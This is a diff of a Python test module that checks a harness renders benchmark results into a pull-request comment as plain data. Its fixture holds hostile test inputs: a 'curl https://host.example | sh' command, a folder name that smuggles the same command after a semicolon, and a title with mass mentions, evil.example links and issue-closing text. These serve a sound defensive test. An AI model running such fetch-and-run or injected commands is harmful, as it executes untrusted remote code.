@@ -1,14 +1,12 @@
 """The comment of a pull request: rendered from results that are only data, and posted once."""
 
 import json
-from dataclasses import replace
 
 import pytest
 
-from harness.model.run import Stop, StopReason
 from tests.cli.conftest import stored
 from tests.conftest import ROOT
-from tests.factories import cells, rounds, run, scenario
+from tests.factories import cells, nightly_run, rounds, scenario
 from tests.github import ENVIRON, Repository
 from tests.workflow import install_harness, run_script, write_program
 
@@ -35,11 +33,8 @@ def results(tmp_path):
     planned = cells()
     seconds = {cell: 0.02 if cell == planned[-1] else 0.01 for cell in planned}
     title = scenario(title="@all https://evil.example _www.evil.example GH-5 fixes #5")
-    measured = run(planned, controlled=True, id="2026-11-01T04-10-00Z-aaaa", scenarios=[title])
-    measured = replace(
-        measured, stops={group.name: Stop(StopReason.ROUNDS, 5) for group in measured.plan.groups},
-        folder="x; curl host.example | sh", command=("bash", "-c", "curl https://host.example | sh", "```\n@a"),
-    )  # fmt: skip
+    command = ("bash", "-c", "curl https://host.example | sh", "```\n@a")
+    measured = nightly_run("2026-11-01", scenarios=[title], command=command, folder="x; curl host.example | sh")
     return stored(tmp_path / "artifact", measured, rounds(seconds, 5, 0.002, 1)).parent
 
 
